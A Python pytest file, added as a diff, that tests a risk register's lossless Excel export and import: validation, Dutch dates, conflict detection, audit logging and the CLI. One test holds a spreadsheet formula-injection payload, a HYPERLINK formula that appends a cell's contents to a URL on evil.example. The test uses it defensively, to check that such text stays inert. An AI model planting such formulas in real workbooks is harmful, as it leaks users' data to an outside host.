@@ -1,0 +1,334 @@
+"""The register to Excel and back: lossless, all or nothing, every change in the audit log."""
+
+from __future__ import annotations
+
+import argparse
+import datetime as dt
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from openpyxl.cell.cell import Cell
+from openpyxl.worksheet.worksheet import Worksheet
+
+from pipelines.catalogue import Catalogue
+from pipelines.export_cli import add_register_excel_parsers
+from pipelines.register import MEASURE_FIELDS, RISK_FIELDS, Register, verify_audit
+from pipelines.register_excel import (
+    DATE_NUMBER_FORMAT,
+    MEASURE_COLUMNS,
+    RISK_COLUMNS,
+    SHEET_MEASURES,
+    SHEET_RISKS,
+    ImportRefused,
+    export_register,
+    import_register,
+)
+
+TODAY = dt.date(2026, 11, 26)
+
+
+@pytest.fixture
+def register(tmp_path: Path, catalogue: Catalogue) -> Register:
+    return Register(catalogue, tmp_path / "register.sqlite")
+
+
+@pytest.fixture
+def xlsx(register: Register, tmp_path: Path) -> Path:
+    return export_register(register, tmp_path / "register.xlsx")
+
+
+def state(register: Register) -> tuple[pd.DataFrame, pd.DataFrame, int]:
+    return register.risks(), register.measures(today=TODAY), len(register.audit())
+
+
+def assert_unchanged(register: Register, before: tuple[pd.DataFrame, pd.DataFrame, int]) -> None:
+    risks, measures, log = state(register)
+    pd.testing.assert_frame_equal(risks, before[0])
+    pd.testing.assert_frame_equal(measures, before[1])
+    assert log == before[2]
+
+
+def column(ws: Worksheet, key: str) -> int:
+    return next(c.column for c in ws[1] if str(c.value).endswith(f"[{key}]"))
+
+
+def row_of(ws: Worksheet, entity_id: str) -> int:
+    return next(r[0].row for r in ws.iter_rows(min_row=2) if r[0].value == entity_id)
+
+
+def cell(ws: Worksheet, entity_id: str, key: str) -> Cell:
+    return ws.cell(row_of(ws, entity_id), column(ws, key))
+
+
+def edit(path: Path, changes: list[tuple[str, str, str, object]]) -> Path:
+    """Set (sheet, row id, field key) to value, as a user would in Excel; save."""
+    wb = openpyxl.load_workbook(path)
+    for sheet, entity_id, key, value in changes:
+        cell(wb[sheet], entity_id, key).value = value
+    wb.save(path)
+    return path
+
+
+def add_row(path: Path, values: dict[str, object]) -> int:
+    wb = openpyxl.load_workbook(path)
+    ws = wb[SHEET_MEASURES]
+    number = ws.max_row + 1
+    for key, value in values.items():
+        ws.cell(number, column(ws, key), value)
+    wb.save(path)
+    return number
+
+
+def test_the_workbook_has_both_sheets_keyed_headers_lists_and_real_dates(xlsx: Path) -> None:
+    wb = openpyxl.load_workbook(xlsx)
+    assert wb.sheetnames[:2] == [SHEET_RISKS, SHEET_MEASURES]
+    risks, measures = wb[SHEET_RISKS], wb[SHEET_MEASURES]
+    assert [c.value for c in risks[1]] == [
+        "Risico [risk_id]",
+        "Naam [name]",
+        "Impact [impact]",
+        "Inherente kans [inherent_likelihood]",
+        "Risicobereidheid [appetite]",
+        "Versie [version]",
+    ]
+    assert [str(c.value).rsplit("[", 1)[1].rstrip("]") for c in measures[1]] == list(
+        MEASURE_COLUMNS
+    )
+    listed = {
+        str(v.sqref).split(":")[0].rstrip("0123456789"): v.formula1
+        for v in measures.data_validations.dataValidation
+        if v.type == "list"
+    }
+    status = listed[openpyxl.utils.get_column_letter(column(measures, "status"))]
+    assert status == '"ontworpen,geimplementeerd,werkend,vervallen"'
+    assert len(listed) == 5 and all(len(f) <= 255 for f in listed.values())  # Excel's limit
+    assert any(v.type == "list" for v in risks.data_validations.dataValidation)
+    tested = cell(measures, "G1-CM02", "last_tested_on")  # last tested 2025-10-01
+    assert tested.is_date and tested.number_format == DATE_NUMBER_FORMAT
+    assert tested.value.date() == dt.date(2025, 10, 1)
+
+
+def test_the_sheets_cover_every_field_the_register_lets_you_edit() -> None:
+    assert set(MEASURE_FIELDS) <= set(MEASURE_COLUMNS)
+    assert set(RISK_FIELDS) <= set(RISK_COLUMNS)
+
+
+def test_a_round_trip_changes_nothing_and_writes_no_audit_row(
+    register: Register, xlsx: Path, tmp_path: Path
+) -> None:
+    before = state(register)
+    result = import_register(register, xlsx, actor="Anna", today=TODAY)
+    assert (result.changed, result.added) == ((), ())
+    assert result.unchanged == len(before[0]) + len(before[1])
+    assert_unchanged(register, before)
+    again = export_register(register, tmp_path / "again.xlsx")
+    for sheet in (SHEET_RISKS, SHEET_MEASURES):
+        first = [[c.value for c in r] for r in openpyxl.load_workbook(xlsx)[sheet].iter_rows()]
+        second = [[c.value for c in r] for r in openpyxl.load_workbook(again)[sheet].iter_rows()]
+        assert first == second
+
+
+def test_two_edited_cells_land_as_exactly_those_changes_in_register_and_audit_log(
+    register: Register, xlsx: Path
+) -> None:
+    before_risks, before_measures, before_log = state(register)
+    old_impact = int(before_risks.set_index("risk_id").loc["G1", "impact"])
+    new_impact = 1 if old_impact != 1 else 2
+    edit(
+        xlsx,
+        [
+            (SHEET_RISKS, "G1", "impact", new_impact),
+            (SHEET_MEASURES, "G3-CM01", "owner_role", "controller"),
+        ],
+    )
+    result = import_register(register, xlsx, actor="Anna (risicomanager)", today=TODAY)
+    assert [
+        (r.entity_id, [(c.field, c.old, c.new) for c in r.changes]) for r in result.changed
+    ] == [
+        ("G1", [("impact", old_impact, new_impact)]),
+        ("G3-CM01", [("owner_role", "hr", "controller")]),
+    ]
+    risks, measures, log = state(register)
+    assert risks.set_index("risk_id").loc["G1", "impact"] == new_impact
+    assert measures.set_index("control_measure_id").loc["G3-CM01", "owner_role"] == "controller"
+    new_rows = register.audit().head(log - before_log)
+    assert sorted(zip(new_rows["entity_id"], new_rows["field"], strict=True)) == [
+        ("G1", "impact"),
+        ("G3-CM01", "owner_role"),
+    ]
+    assert set(new_rows["actor"]) == {"Anna (risicomanager)"}
+    others = risks.set_index("risk_id").drop(index="G1")
+    pd.testing.assert_frame_equal(others, before_risks.set_index("risk_id").drop(index="G1"))
+    untouched = measures.set_index("control_measure_id").drop(index="G3-CM01")
+    assert untouched.equals(before_measures.set_index("control_measure_id").drop(index="G3-CM01"))
+    assert verify_audit(register.path)[1] == []
+
+
+def test_dates_typed_as_dutch_text_and_a_new_measure_row_are_imported(
+    register: Register, xlsx: Path
+) -> None:
+    edit(
+        xlsx,
+        [
+            (SHEET_MEASURES, "G1-CM03", "last_tested_on", "15-10-2026"),
+            (SHEET_MEASURES, "G1-CM03", "last_test_result", "effectief"),
+        ],
+    )
+    add_row(
+        xlsx,
+        {
+            "risk_id": "G3",
+            "text_nl": "Rittenregistratie steekproefsgewijs controleren",
+            "control_type": "detective",
+            "owner_role": "controller",
+        },
+    )
+    result = import_register(register, xlsx, actor="Anna", today=TODAY)
+    measures = register.measures().set_index("control_measure_id")
+    assert measures.loc["G1-CM03", "last_tested_on"] == "2026-10-15"
+    [added] = result.added
+    assert added.entity_id.startswith("G3-CM")
+    assert measures.loc[added.entity_id, "text_nl"].startswith("Rittenregistratie")
+    assert "text_nl" in set(register.audit("G3").query("entity_id == @added.entity_id")["field"])
+
+
+@pytest.mark.parametrize(
+    "sheet, entity_id, key, value, reason",
+    [
+        (SHEET_MEASURES, "G3-CM01", "status", "klaar", "één van ontworpen"),
+        (SHEET_MEASURES, "G1-CM02", "last_tested_on", "31-02-2026", "niet '31-02-2026'"),
+        (SHEET_RISKS, "G1", "impact", 7, "van 1 tot en met 5 verwacht, niet 7"),
+        (SHEET_RISKS, "G2", "risk_id", "ZZ9", "onbekend risico 'ZZ9'"),
+        (SHEET_MEASURES, "G3-CM01", "risk_id", "G1", "niet te wijzigen"),
+        (SHEET_MEASURES, "G3-CM01", "version", None, "versie ontbreekt"),
+        (SHEET_MEASURES, "G3-CM01", "text_nl", "=1+1", "formule"),
+    ],
+)
+def test_a_bad_cell_is_refused_with_sheet_cell_and_reason_and_nothing_is_applied(
+    register: Register, xlsx: Path, sheet: str, entity_id: str, key: str, value: object, reason: str
+) -> None:
+    wb = openpyxl.load_workbook(xlsx)
+    target = cell(wb[sheet], entity_id, key).coordinate
+    wb.close()
+    good = (SHEET_MEASURES, "G4-CM01", "owner_role", "controller")
+    also = [(SHEET_MEASURES, entity_id, "owner_role", "controller")] if key == "version" else []
+    edit(xlsx, [good, *also, (sheet, entity_id, key, value)])
+    before = state(register)
+    with pytest.raises(ImportRefused) as refused:
+        import_register(register, xlsx, actor="Anna", today=TODAY)
+    [error] = refused.value.errors
+    assert f"{error.sheet}!{error.cell}" == f"{sheet}!{target}"
+    assert reason in error.message
+    assert f"{sheet}!{target}: " in str(refused.value)
+    assert "niets ingelezen" in str(refused.value)
+    assert_unchanged(register, before)
+
+
+def test_every_bad_cell_is_named_at_once(register: Register, xlsx: Path) -> None:
+    edit(
+        xlsx,
+        [
+            (SHEET_MEASURES, "G3-CM01", "status", "klaar"),
+            (SHEET_MEASURES, "G1-CM02", "last_tested_on", "31-02-2026"),
+            (SHEET_RISKS, "G1", "impact", 7),
+        ],
+    )
+    row = add_row(
+        xlsx,
+        {"risk_id": "ZZ9", "text_nl": "x", "control_type": "detective", "owner_role": "hr"},
+    )
+    before = state(register)
+    with pytest.raises(ImportRefused) as refused:
+        import_register(register, xlsx, actor="Anna", today=TODAY)
+    where = [f"{e.sheet}!{e.cell}" for e in refused.value.errors]
+    assert len(where) == 4 and f"{SHEET_MEASURES}!B{row}" in where
+    assert "onbekend risico 'ZZ9'" in str(refused.value)
+    assert_unchanged(register, before)
+
+
+def test_a_row_changed_in_the_app_after_the_export_is_a_conflict_naming_the_row(
+    register: Register, xlsx: Path
+) -> None:
+    register.update_measure(
+        "G3-CM01", {"owner_role": "inkoop"}, version=1, actor="Bert", today=TODAY
+    )
+    edit(xlsx, [(SHEET_MEASURES, "G3-CM01", "status", "geimplementeerd")])
+    wb = openpyxl.load_workbook(xlsx)
+    ws = wb[SHEET_MEASURES]
+    version_cell, row = cell(ws, "G3-CM01", "version").coordinate, row_of(ws, "G3-CM01")
+    before = state(register)
+    with pytest.raises(ImportRefused) as refused:
+        import_register(register, xlsx, actor="Anna", today=TODAY)
+    [error] = refused.value.errors
+    assert (error.sheet, error.cell) == (SHEET_MEASURES, version_cell)
+    assert f"rij {row} (G3-CM01)" in error.message
+    assert "intussen gewijzigd door Bert" in error.message
+    assert_unchanged(register, before)
+
+
+def test_text_that_looks_like_a_formula_survives_the_round_trip_as_text(
+    register: Register, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1)'
+    register.update_measure(
+        "G3-CM01", {"text_nl": formula, "text_en": "-3 days"}, version=1, actor="A", today=TODAY
+    )
+    xlsx = export_register(register, tmp_path / "register.xlsx")
+    ws = openpyxl.load_workbook(xlsx)[SHEET_MEASURES]
+    written = cell(ws, "G3-CM01", "text_nl")
+    assert written.data_type == "s" and written.value == "'" + formula  # never a live formula
+    before = state(register)
+    assert import_register(register, xlsx, actor="A", today=TODAY).changed == ()
+    assert_unchanged(register, before)
+    # A user who types '=2+3 in Excel means the text =2+3.
+    edit(xlsx, [(SHEET_MEASURES, "G3-CM02", "text_nl", "'=2+3")])
+    import_register(register, xlsx, actor="A", today=TODAY)
+    measures = register.measures().set_index("control_measure_id")
+    assert measures.loc["G3-CM01", "text_nl"] == formula
+    assert measures.loc["G3-CM01", "text_en"] == "-3 days"
+    assert measures.loc["G3-CM02", "text_nl"] == "=2+3"
+
+
+def test_a_workbook_without_a_column_or_sheet_is_refused(register: Register, xlsx: Path) -> None:
+    wb = openpyxl.load_workbook(xlsx)
+    wb[SHEET_MEASURES].delete_cols(column(wb[SHEET_MEASURES], "status"))
+    del wb[SHEET_RISKS]
+    wb.save(xlsx)
+    with pytest.raises(ImportRefused) as refused:
+        import_register(register, xlsx, actor="A", today=TODAY)
+    text = str(refused.value)
+    assert f"{SHEET_RISKS}: het tabblad" in text
+    assert f"{SHEET_MEASURES}!1:1: de kolom [status] ontbreekt" in text
+
+
+def test_an_import_without_a_name_is_refused(register: Register, xlsx: Path) -> None:
+    edit(xlsx, [(SHEET_MEASURES, "G3-CM01", "owner_role", "controller")])
+    with pytest.raises(ImportRefused, match="Een naam is verplicht"):
+        import_register(register, xlsx, actor="  ", today=TODAY)
+
+
+def _run(argv: list[str]) -> int:
+    parser = argparse.ArgumentParser(prog="radar")
+    add_register_excel_parsers(parser.add_subparsers(dest="command", required=True))
+    args = parser.parse_args(argv)
+    return args.func(args)
+
+
+def test_radar_register_export_and_import(
+    empty_home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    xlsx = tmp_path / "register.xlsx"
+    assert _run(["register", "export", str(xlsx)]) == 0
+    assert "Register geëxporteerd" in capsys.readouterr().out
+    edit(xlsx, [(SHEET_MEASURES, "G3-CM01", "owner_role", "controller")])
+    assert _run(["register", "import", str(xlsx), "--by", "Anna"]) == 0
+    out = capsys.readouterr().out
+    assert "1 regel(s) gewijzigd" in out and "G3-CM01): owner_role" in out
+    edit(xlsx, [(SHEET_MEASURES, "G3-CM02", "status", "klaar")])
+    assert _run(["register", "import", str(xlsx), "--by", "Anna"]) == 1
+    assert f"{SHEET_MEASURES}!H" in capsys.readouterr().err
+    assert (
+        Register(path=empty_home / "register.sqlite").audit()["actor"].tolist().count("Anna") == 1
+    )
